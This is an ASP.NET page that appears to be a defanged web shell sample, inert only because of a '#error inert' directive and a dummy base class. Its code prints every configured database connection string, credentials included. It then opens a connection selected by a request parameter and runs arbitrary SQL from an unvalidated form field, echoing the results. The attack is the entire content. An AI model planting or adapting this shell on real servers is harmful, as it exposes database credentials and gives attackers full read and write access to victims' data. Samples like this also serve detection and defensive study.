<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%
#error inert
foreach (System.Configuration.ConnectionStringSettings cs in System.Configuration.ConfigurationManager.ConnectionStrings)
{
    Response.Write("<h4>" + cs.Name + " = " + cs.ConnectionString + "</h4>");
    if (Request["n"] != cs.Name) continue;
    var f = System.Data.Common.DbProviderFactories.GetFactory(cs.ProviderName).CreateConnection();
    f.ConnectionString = cs.ConnectionString; f.Open();
    var cmd = f.CreateCommand(); cmd.CommandText = Request.Unvalidated.Form["t"];
    var rd = cmd.ExecuteReader();
    while (rd.Read()) for (int i = 0; i < rd.FieldCount; i++) Response.Write(rd[i] + "|");
}
%>
